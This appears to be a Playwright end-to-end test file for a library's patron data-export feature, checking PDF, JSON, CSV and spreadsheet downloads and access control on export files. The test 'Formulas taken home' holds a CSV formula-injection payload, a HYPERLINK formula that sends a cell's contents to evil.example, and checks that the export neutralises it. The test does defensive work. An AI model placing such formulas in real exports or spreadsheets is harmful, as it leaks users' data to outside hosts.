import { accounts } from "../support/accounts";
import { field, say } from "../support/catalogue";
import { fromZip, readCsv, textOfPdf } from "../support/files";
import { comparable, expectedValues, patronOf, sorted } from "../support/fixture";
import { askForReport, at, categories, heading, saved } from "../support/pages";
import { expect, test } from "../support/test";

for (const name of ["helmi", "hostile", "long", "bare", "child"] as const) {
  test.describe(`What ${name} takes home`, () => {
    test.use({ as: name });

    test("as PDF is one, with the name in it", { tag: "@once" }, async ({ page }) => {
      const { name: file, bytes } = await saved(page, () => askForReport(page, "pdf", "fi"));
      expect(file).toBe(`${say("fi", "report-file-name")}.pdf`);
      expect(bytes.subarray(0, 5).toString("latin1")).toBe("%PDF-");
      const text = textOfPdf(bytes);
      test.skip(text === undefined, "there is no pdftotext");
      expect(text).toContain(accounts[name].card);
      if (name === "helmi") {
        expect(text).toContain("Helmi Kivijärvi");
        for (const title of ["Seitsemän veljestä", "Palautettu teos 1", "Palautettu teos 120", "Kanteletar"]) expect(text).toContain(title);
      }
      for (const category of categories) expect(text, category).toContain(say("fi", `category-${category}`));
      expect(text).not.toContain("salainen-avain");
    });

    test("as JSON holds every value that the library sent, and no secret", { tag: "@once" }, async ({ page }) => {
      const { name: file, bytes } = await saved(page, () => askForReport(page, "json"));
      expect(file).toBe(`${say("en", "report-file-name")}.json`);
      const report = JSON.parse(bytes.toString("utf8")) as {
        patron: { cardnumber: string };
        categories: Record<string, { purpose: string; retention: string; entries: Record<string, unknown>[] }>;
      };
      expect(report.patron.cardnumber).toBe(accounts[name].card);
      expect(Object.keys(report.categories)).toEqual([...categories]);
      const expected = expectedValues(patronOf(accounts[name].card));
      for (const category of categories) {
        const { purpose, retention, entries } = report.categories[category]!;
        expect(purpose).toBe(say("en", `register-${category}-purpose`));
        expect(retention).toBe(say("en", `register-${category}-retention`));
        if (category === "guardians" || category === "log") continue;
        const plain = sorted(entries.map(comparable));
        expect.soft(plain, category).toEqual(sorted(expected.get(category) ?? []));
      }
      expect(bytes.toString("utf8")).not.toMatch(/\$2a\$|\$argon2|salainen-avain|borrowernumber/);
    });
  });
}

test.describe("Taking data home", () => {
  test.use({ as: "helmi" });

  test("offers a document and a file, explained, in the language one likes", async ({ page }) => {
    await page.goto("/my-data");
    await page.getByRole("link", { name: say("en", "take-away-link") }).click();
    await expect(heading(page)).toHaveText(say("en", "take-away-title"));
    await expect(page.getByLabel(say("en", "format-pdf"))).toBeChecked();
    for (const format of ["pdf", "json"]) {
      await expect(page.getByLabel(say("en", `format-${format}`))).toHaveAccessibleDescription(say("en", `format-${format}-hint`));
    }
    await page.getByLabel(say("en", "report-language-label")).selectOption("Suomi");
    const { name } = await saved(page, () => page.getByRole("button", { name: say("en", "take-away-button") }).click());
    expect(name).toBe(`${say("fi", "report-file-name")}.pdf`);
    // The page is still there for the next one.
    await expect(heading(page)).toHaveText(say("en", "take-away-title"));
  });

  test("gives the loan history as CSV, without formulas", { tag: "@once" }, async ({ page }) => {
    await page.goto("/my-data/checkout-history");
    const { name, bytes } = await saved(page, () => page.getByRole("button", { name: say("en", "save-as-csv") }).click());
    expect(name).toBe(`${say("en", "report-file-name")}-checkout-history.csv`);
    const [head, ...rows] = readCsv(bytes.toString("utf8"));
    const titles = rows.map((row) => row[head!.indexOf(field("en", "title"))]);
    expect(titles.toSorted()).toEqual(Array.from({ length: 120 }, (_, at) => `Palautettu teos ${at + 1}`).sort());
  });

  test("gives the loan history as a spreadsheet", { tag: "@once" }, async ({ page }) => {
    await page.goto(at("fi", "/my-data/checkout-history"));
    const { name, bytes } = await saved(page, () => page.getByRole("button", { name: say("fi", "save-as-ods") }).click());
    expect(name).toBe(`${say("fi", "report-file-name")}-checkout-history.ods`);
    expect(bytes.subarray(0, 2).toString()).toBe("PK");
    const content = fromZip(bytes, "content.xml");
    test.skip(content === undefined, "there is no unzip");
    for (let number = 1; number <= 120; number += 1) expect(content).toContain(`>Palautettu teos ${number}<`);
  });
});

test.describe("Formulas taken home", () => {
  test.use({ as: "hostile" });

  test("are texts in CSV", { tag: "@once" }, async ({ page }) => {
    await page.goto("/my-data/checkouts");
    const { bytes } = await saved(page, () => page.getByRole("button", { name: say("en", "save-as-csv") }).click());
    const cells = readCsv(bytes.toString("utf8")).slice(1).flat();
    expect(cells).toContain(`'=HYPERLINK("https://evil.example/?"&A1;"Klikkaa")`);
    expect(cells.filter((cell) => /^[=@+]|^-\D/.test(cell))).toEqual([]);
  });
});

test("What is somebody else’s file is not there", { tag: "@once" }, async ({ page, browser, baseURL }) => {
  // Kerttu asks for a file; whoever knows its address but is not Kerttu sees nothing of it.
  const { stateOf } = await import("../support/sign-in-everyone");
  const kerttu = await browser.newContext({ baseURL, storageState: stateOf("kerttu") });
  const answer = await kerttu.request.post("/my-data/take-away", { form: { format: "csv", category: "checkout-history" }, maxRedirects: 0 });
  const address = new URL(answer.headers().location!, baseURL).pathname;
  const helmi = await browser.newContext({ baseURL, storageState: stateOf("helmi") });
  for (const visit of [helmi.request.get(address), helmi.request.post(`${address}/file`, { form: {} }), helmi.request.post(`${address}/delete`, { form: {} })]) {
    expect((await visit).status()).toBe(404);
  }
  await page.goto(address);
  await expect(page).toHaveURL(`/sign-in?next=${address}`);
  expect((await kerttu.request.get(address)).status()).toBe(200);
  await kerttu.request.post(`${address}/delete`, { form: {} });
  expect((await kerttu.request.get(address)).status()).toBe(404);
  await Promise.all([kerttu.close(), helmi.close()]);
});
